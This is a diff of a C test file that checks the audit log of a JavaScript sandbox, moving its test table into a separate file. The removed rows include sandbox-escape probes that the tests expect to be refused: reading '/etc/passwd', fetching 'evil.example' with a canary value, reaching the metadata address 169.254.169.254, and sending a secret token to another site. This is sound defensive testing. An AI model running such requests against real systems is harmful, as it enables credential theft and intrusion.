@@ -7,17 +7,13 @@
 #include "host_functions.h"
 #include "http_server.h"
 #include "proc.h"
+#include "table.h"
+#include "test.h"
 
-#include <glovebox/policy.h>
-#include <setjmp.h>
-#include <stdarg.h>
-#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
-
-#include <cmocka.h>
 
 #define SECRET "s3cr3t-canary-value"
 
@@ -41,8 +37,6 @@ static struct {
 
 static gbx_policy *make_policy(void)
 {
-    gbx_policy *policy = NULL;
-    gbx_error error = {0};
     char json[1024];
 
     (void)
@@ -58,9 +52,7 @@ static gbx_policy *make_policy(void)
                  " \"sites\": [\"http://localhost:%u\"]}}}",
                  server_port(w.web), server_port(w.web), dns_server_address(w.dns),
                  w.top, server_port(w.web));
-    if (gbx_policy_parse(json, strlen(json), NULL, &policy, &error) != GBX_OK)
-        fail_msg("no policy: %s in %s", error.message, json);
-    return policy;
+    return policy_of(json);
 }
 
 static void write_file(void)
@@ -96,7 +88,6 @@ static int start(void **state)
                           .reply_count = sizeof replies / sizeof replies[0]};
     gbx_options options = GBX_OPTIONS_INIT;
 
-    (void)state;
     write_file();
     w.web = server_start(&web);
     w.dns = dns_server_start(names, sizeof names / sizeof names[0]);
@@ -120,7 +111,6 @@ static int finish(void **state)
 {
     char path[64];
 
-    (void)state;
     host_functions_settle(&w.host);
     gbx_engine_free(w.engine);
     server_stop(w.web);
@@ -149,228 +139,7 @@ static json_t *lines_of(const char *call_id, const char *event)
 
 /* ---- one line for each request ------------------------------------------------------ */
 
-#define CATCHING(what) \
-    "async (d) => { try { await " what " } catch (e) { return e.code } }"
-
-static const struct row {
-    const char *what;
-    const char *code;
-    gbx_limits limits;
-    const char *event;
-    size_t calls;    /* lines of host.call */
-    size_t refusals; /* lines of host.refused */
-    struct {
-        const char *field;
-        const char *value; /* as JSON; with '*' at its end: begins so */
-    } fields[6];           /* of the last line with that event */
-} rows[] = {
-    {"an answer",
-     "async () => { await echo([1, 2]) }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"echo\""},
-      {"outcome", "\"ok\""},
-      {"bytesOut", "7"},
-      {"bytesIn", "7"},
-      {"code", "null"},
-      {"durationMs", "*"}}},
-    {"undefined",
-     "async () => { await nothing() }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"nothing\""}, {"outcome", "\"ok\""}, {"bytesIn", "0"}}},
-    {"an error of the embedder's",
-     CATCHING("fail()"),
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"fail\""}, {"outcome", "\"error\""}, {"code", "\"ENOTABLE\""}}},
-    {"a refusal of the embedder's",
-     CATCHING("deny()"),
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"deny\""},
-      {"outcome", "\"error\""},
-      {"code", "\"ERR_NOT_ALLOWED\""}}},
-    {"an answer from another thread",
-     "async () => { await db.late(5) }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"db.late\""}, {"outcome", "\"ok\""}}},
-    {"answered twice",
-     "async () => { await db.twice() }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"db.twice\""}, {"outcome", "\"ok\""}}},
-    {"no JSON from the host",
-     CATCHING("db.bad()"),
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"outcome", "\"error\""}, {"code", "\"ERR_HOST_ANSWER\""}}},
-    {"never answered",
-     "async () => { await stop() }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"stop\""}, {"outcome", "\"unanswered\""}}},
-    {"nobody waits for it",
-     "() => { db.never(); return 1 }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"db.never\""}, {"outcome", "\"unanswered\""}}},
-    {"many at once",
-     "async () => { await Promise.all([echo(), echo(), db.late(1)]) }",
-     {.timeout_ms = 60000},
-     "host.call",
-     3,
-     0,
-     {{"outcome", "\"ok\""}}},
-    {"an answer over the limit",
-     CATCHING("db.huge(5000)"),
-     {.timeout_ms = 60000, .host_in_bytes = 1000},
-     "host.refused",
-     0,
-     1,
-     {{"function", "\"db.huge\""}, {"code", "\"ERR_HOST_BYTES\""}}},
-    {"arguments over the limit",
-     "async () => { for (let i = 0; i < 9; i++) await echo('x'.repeat(99)).catch(() => 0) }",
-     {.timeout_ms = 60000, .host_out_bytes = 300},
-     "host.refused",
-     2,
-     1,
-     {{"code", "\"ERR_HOST_BYTES\""}, {"limit", "300"}, {"function", "null"}}},
-    {"calls over the limit",
-     "async () => { for (let i = 0; i < 9; i++) await echo().catch(() => 0) }",
-     {.timeout_ms = 60000, .host_calls = 3},
-     "host.refused",
-     3,
-     1,
-     {{"code", "\"ERR_HOST_CALLS\""}, {"limit", "3"}, {"function", "null"}}},
-
-    {"a secret for another",
-     CATCHING("echo('{{secret:TOKEN}}')"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"function", "\"echo\""}, {"code", "\"ERR_SECRET\""}, {"message", "*"}}},
-
-    {"a file",
-     "async (d) => { await fs.promises.readFile(d.dir + '/a.txt') }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"fs.readFile\""},
-      {"outcome", "\"ok\""},
-      {"bytesIn", "5"},
-      {"target", "\"/tmp/glovebox-audit-*"}}},
-    {"no such file",
-     CATCHING("fs.promises.readFile(d.dir + '/b')"),
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"outcome", "\"error\""},
-      {"code", "\"ENOENT\""},
-      {"target", "\"/tmp/glovebox-audit-*"}}},
-    {"a file outside",
-     CATCHING("fs.promises.readFile('/etc/passwd')"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"function", "\"fs.readFile\""},
-      {"code", "\"ERR_FILE_NOT_ALLOWED\""},
-      {"target", "\"/etc/passwd\""}}},
-
-    {"a fetch",
-     "async (d) => { await fetch(d.web + '/ok?q=canary#canary') }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"function", "\"fetch\""},
-      {"outcome", "\"ok\""},
-      {"method", "\"GET\""},
-      {"status", "200"},
-      {"address", "\"*"},
-      {"target", "\"http://localhost:*"}}},
-    {"a fetch that is redirected",
-     "async (d) => { await fetch(d.web + '/chain/2') }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"status", "200"}, {"hops", "3"}, {"target", "\"http://localhost:*"}}},
-    {"a destination that is not listed",
-     CATCHING("fetch(d.evil + '/path/x?q=canary')"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"function", "\"fetch\""},
-      {"code", "\"ERR_FETCH_NOT_ALLOWED\""},
-      {"target", "\"https://evil.example/path/x\""}}},
-    {"a name that leads elsewhere",
-     CATCHING("fetch('https://listed.test/meta')"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"code", "\"ERR_FETCH_ADDRESS\""},
-      {"address", "\"169.254.169.254\""},
-      {"detail", "\"address 1 of 1, 169.254.169.254, is refused*"},
-      {"target", "\"https://listed.test/meta\""}}},
-    {"a body over the limit",
-     CATCHING("(await fetch(d.web + '/bytes/5000')).text()"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"code", "\"ERR_FETCH_TOO_LARGE\""}, {"target", "\"http://localhost:*"}}},
-    {"a secret for another site",
-     CATCHING(
-         "fetch(d.ip + '/ok', { headers: { authorization: '{{secret:TOKEN}}' } })"),
-     {.timeout_ms = 60000},
-     "host.refused",
-     0,
-     1,
-     {{"code", "\"ERR_FETCH_SECRET\""}, {"target", "\"http://127.0.0.1:*"}}},
-    {"a fetch that is given up",
-     "async (d) => { const c = new AbortController(); const f = fetch(d.web + '/hold',"
-     " { signal: c.signal }); await sleep(50); c.abort(); await f.catch(() => 0) }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"outcome", "\"error\""}, {"target", "\"http://localhost:*"}}},
-    {"a fetch that outlives the call",
-     "async (d) => { fetch(d.web + '/hold'); await 0 }",
-     {.timeout_ms = 60000},
-     "host.call",
-     1,
-     0,
-     {{"outcome", "\"unanswered\""}, {"target", "\"http://localhost:*"}}},
-};
-
-static void check_field(const struct row *row, json_t *line, const char *field,
+static void check_field(const char *name, json_t *line, const char *field,
                         const char *value)
 {
     json_t *found = json_object_get(line, field);
@@ -386,46 +155,63 @@ static void check_field(const struct row *row, json_t *line, const char *field,
     if (!same) {
         char *whole = json_dumps(line, 0);
 
-        fail_msg("%s: %s is %s: %s", row->what, field, text, whole);
+        fail_msg("%s: %s is %s: %s", name, field, text, whole);
     }
     free(text);
 }
 
+/* The lines of host.call or of host.refused of the call; as many as there must be. */
+static json_t *expect_lines(const table_block *row, gbx_result *result,
+                            const char *event, size_t count)
+{
+    json_t *lines = lines_of(gbx_result_call_id(result), event);
+
+    if (json_array_size(lines) != count)
+        fail_msg("%s: %zu lines of %s: %s", row->name, json_array_size(lines), event,
+                 gbx_result_json(result, NULL));
+    return lines;
+}
+
+static void check_row(const table_block *row)
+{
+    gbx_limits limits = timeout_of(60000);
+    gbx_call call = call_of(row->text);
+    char event[32], field[32], value[256];
+    size_t count, refused;
+    const char *at = row->value;
+    gbx_result *result;
+    json_t *calls, *refusals, *last;
+
+    limits.host_in_bytes = table_number(row, "host_in_bytes", 0);
+    limits.host_out_bytes = table_number(row, "host_out_bytes", 0);
+    limits.host_calls = (uint32_t)table_number(row, "host_calls", 0);
+    call.limits = &limits;
+    call.input = w.input;
+    call.input_len = strlen(w.input);
+    assert_int_equal(sscanf(at, "%31s %zu %zu", event, &count, &refused), 3);
+    result = call_run(w.engine, &call);
+    calls = expect_lines(row, result, "host.call", count);
+    refusals = expect_lines(row, result, "host.refused", refused);
+    last = strcmp(event, "host.call") == 0 ? json_array_get(calls, count - 1)
+                                           : json_array_get(refusals, refused - 1);
+    while ((at = strchr(at, '\n')) != NULL) {
+        assert_int_equal(sscanf(++at, "%31s %255[^\n]", field, value), 2);
+        check_field(row->name, last, field, value);
+    }
+    /* The log knows more than the code. */
+    assert_null(strstr(gbx_result_json(result, NULL), "169.254"));
+    json_decref(calls);
+    json_decref(refusals);
+    gbx_result_free(result);
+}
+
 static void test_request__has_one_line(void **state)
 {
-    (void)state;
-    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
-        const struct row *row = &rows[i];
-        gbx_limits limits = row->limits;
-        gbx_call call = call_of(row->code);
-        gbx_result *result;
-        json_t *calls;
-        json_t *refusals;
-        json_t *last;
+    const table_block *rows;
+    size_t count = table_blocks("integration/scripts/audit_host.txt", &rows);
 
-        limits.struct_size = sizeof limits;
-        call.limits = &limits;
-        call.input = w.input;
-        call.input_len = strlen(w.input);
-        result = call_run(w.engine, &call);
-        calls = lines_of(gbx_result_call_id(result), "host.call");
-        refusals = lines_of(gbx_result_call_id(result), "host.refused");
-        if (json_array_size(calls) != row->calls ||
-            json_array_size(refusals) != row->refusals)
-            fail_msg("%s: %zu calls, %zu refusals: %s", row->what,
-                     json_array_size(calls), json_array_size(refusals),
-                     gbx_result_json(result, NULL));
-        last = strcmp(row->event, "host.call") == 0
-                   ? json_array_get(calls, row->calls - 1)
-                   : json_array_get(refusals, row->refusals - 1);
-        for (size_t k = 0; k < 6 && row->fields[k].field != NULL; k++)
-            check_field(row, last, row->fields[k].field, row->fields[k].value);
-        /* The log knows more than the code. */
-        assert_null(strstr(gbx_result_json(result, NULL), "169.254"));
-        json_decref(calls);
-        json_decref(refusals);
-        gbx_result_free(result);
-    }
+    for (size_t i = 0; i < count; i++)
+        check_row(&rows[i]);
     for (size_t i = 0; i < w.heard.count; i++)
         assert_null(strstr(w.heard.lines[i], "canary"));
 }
@@ -440,7 +226,6 @@ static void test_log__has_no_secret(void **state)
     gbx_result *result;
     json_t *lines;
 
-    (void)state;
     call.input = w.input;
     call.input_len = strlen(w.input);
     result = call_run(w.engine, &call);
@@ -468,7 +253,6 @@ static void test_call_ended__has_what_it_cost(void **state)
     json_t *line = json_array_get(lines, 0);
     gbx_stats stats = gbx_result_stats(result);
 
-    (void)state;
     assert_int_equal(json_array_size(lines), 1);
     assert_int_equal(audit_log_number(line, "hostCalls"), 3);
     assert_int_equal(audit_log_number(line, "hostBytesOut"), 21);
